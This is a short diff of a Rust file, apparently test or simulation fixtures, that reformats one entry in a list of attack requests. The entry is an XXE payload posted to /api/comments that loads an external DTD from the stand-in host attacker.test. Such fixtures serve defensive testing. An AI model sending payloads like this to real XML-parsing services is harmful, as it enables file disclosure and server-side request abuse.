@@ -90,7 +90,8 @@ fn attacks() -> Vec<Attack> {
             method: "POST",
             path: "/api/comments",
             headers: vec![("content-type", "application/xml")],
-            body: br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#,
+            body:
+                br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#,
         },
         Attack {
             actor: "198.51.100.13",
